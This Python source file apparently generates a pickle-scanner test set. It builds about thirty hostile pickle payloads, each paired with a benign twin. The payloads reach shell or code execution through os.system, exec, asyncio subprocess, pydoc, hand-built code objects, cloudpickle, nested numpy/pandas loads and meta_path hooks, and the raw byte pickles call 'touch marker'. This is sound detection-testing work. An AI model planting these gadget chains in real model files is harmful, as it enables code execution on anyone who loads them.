"""Live pickles: other gadgets and other tricks than the first set's."""
import io
import pickle as real
import struct

from assembly import Raw, build, call, dot, get, glob, model, new, pickle, put, seq, text, tup, val
from first.stdlib_calls import EXEC, PLAIN, SYSTEM
from pair import CODE, SHELL, Set

INNER = pickle(call(SYSTEM, SHELL))
NAMESPACE = new(glob("argparse", "Namespace"))
EXPR = "open('marker','w')"


def code_object():
    """types.CodeType(...) spelled out, as an attacker without marshal would."""
    c = compile(CODE, "m", "exec")
    fields = (c.co_argcount, c.co_posonlyargcount, c.co_kwonlyargcount, c.co_nlocals, c.co_stacksize, c.co_flags, c.co_code, c.co_consts, c.co_names, c.co_varnames, "m", "m", "m", 1, c.co_linetable, c.co_exceptiontable, (), ())
    return call(glob("types", "CodeType"), *fields)


def npy_object():
    import numpy

    out = io.BytesIO()
    numpy.lib.format.write_array_header_1_0(out, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return out.getvalue() + INNER


def samples():
    yield "pydoc-pager", call(glob("pydoc", "pipepager"), "x", SHELL)
    yield "asyncio-shell", call(glob("asyncio", "run"), call(glob("asyncio", "create_subprocess_shell"), SHELL))
    yield "process-pool", call(glob("multiprocessing.pool", "Pool"), 1, SYSTEM, (SHELL,))
    yield "method-type", call(call(glob("types", "MethodType"), EXEC, CODE))
    yield "partial-rebuilt", call(build(call(glob("functools", "partial"), glob("builtins", "len")), (SYSTEM, (SHELL,), {}, {})))
    yield "bytes-of-map", call(glob("builtins", "bytes"), call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "filter-in-frozenset", call(glob("builtins", "frozenset"), call(glob("builtins", "filter"), EXEC, [CODE]))
    yield "mock-side-effect", call(call(glob("unittest.mock", "Mock"), None, SYSTEM), SHELL)
    yield "copy-dispatch", seq(call(glob("copyreg", "pickle"), glob("pathlib", "PurePosixPath"), SYSTEM), call(glob("copy", "copy"), call(glob("pathlib", "PurePosixPath"), SHELL)))
    yield "module-getattr", seq(build(glob("string", "_re"), {"__getattr__": SYSTEM}), glob("re", SHELL))
    yield "meta-path", seq(call(dot("sys", "meta_path", "append"), build(NAMESPACE, {"find_spec": EXEC})), glob(EXPR, "x"))
    yield "code-type-function", call(call(glob("types", "FunctionType"), code_object(), glob("builtins", "__dict__")))
    yield "cloudpickle-make-function", call(call(glob("cloudpickle.cloudpickle", "_make_function"), code_object(), glob("builtins", "__dict__"), "m", None, None))
    yield "numpy-load-bytes", call(glob("numpy", "load"), call(glob("io", "BytesIO"), npy_object()), None, True)
    yield "numpy-read-array", call(glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), npy_object()), True)
    yield "pandas-read-pickle", call(glob("pandas", "read_pickle"), call(glob("io", "BytesIO"), INNER))
    yield "unpickler-object", call(dot("pickle", "Unpickler", "load"), call(glob("pickle", "Unpickler"), call(glob("io", "BytesIO"), INNER)))
    yield "mailbox-create", call(glob("mailbox", "mbox"), "marker")
    yield "sqlite-create", call(dot("sqlite3", "Connection", "execute"), call(glob("sqlite3", "connect"), "marker"), "create table t(x)")
    yield "profile-dump", call(dot("cProfile", "Profile", "dump_stats"), call(glob("cProfile", "Profile")), "marker")
    yield "dbm-create", call(glob("dbm.dumb", "open"), "marker", "c")
    yield "rotating-log", call(glob("logging.handlers", "RotatingFileHandler"), "marker")
    yield "scipy-savemat", call(glob("scipy.io", "savemat"), "marker", {"a": 1})
    yield "h5py-create", call(glob("h5py", "File"), "marker", "w")
    yield "fsspec-open", call(dot("fsspec.core", "OpenFile", "open"), call(glob("fsspec", "open"), "marker", "w"))
    yield "venv-create", call(glob("venv", "create"), "marker")
    yield "getattr-import", call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), "os"), "popen"), SHELL)
    yield "interpreter-push", call(dot("code", "InteractiveConsole", "push"), call(glob("code", "InteractiveConsole")), CODE)
    yield "os-open-flags", call(glob("os", "open"), "marker", 65)


def raw():
    """(name, hostile, twin) as whole files."""
    ordered = glob("collections", "OrderedDict")
    yield "text-protocol-whole", b"(dp0\nVepoch\np1\nI3\nsVextra\np2\ncposix\nsystem\np3\n(Vtouch marker\np4\ntp5\nRp6\ns.", b"(dp0\nVepoch\np1\nI3\nsVextra\np2\nccollections\nOrderedDict\np3\n(tp5\nRp6\ns."
    yield "list-appends-call", b"\x80\x03](" + val(1) + val(2) + call(SYSTEM, SHELL) + b"e.", b"\x80\x03](" + val(1) + val(2) + call(ordered) + b"e."
    yield "binget-after-setitems", b"\x80\x04}\x94(" + text("f") + SYSTEM + b"\x94" + text("a") + val((SHELL,)) + b"\x94uh\x010" + b"h\x01h\x02R.", b"\x80\x04}\x94(" + text("f") + ordered + b"\x94" + text("a") + val(()) + b"\x94uh\x010" + b"h\x01h\x02R."
    yield "long-names", b"\x80\x04X" + struct.pack("<I", 2) + b"osX" + struct.pack("<I", 6) + b"system\x93" + tup(SHELL) + b"R.", b"\x80\x04X" + struct.pack("<I", 11) + b"collectionsX" + struct.pack("<I", 7) + b"Counter\x93)R."


FILES = ["model.pkl", "state.pickle", "net.p", "estimator.sav"]


def add(out: Set):
    for n, (name, hostile) in enumerate(samples()):
        out.add("pickle", name, pickle(model(hostile)), pickle(model(PLAIN[(n + 3) % len(PLAIN)])), "pickle", file=FILES[n % 4])
    for name, hostile, twin in raw():
        out.add("pickle", name, hostile, twin, "pickle", file="model.pkl")
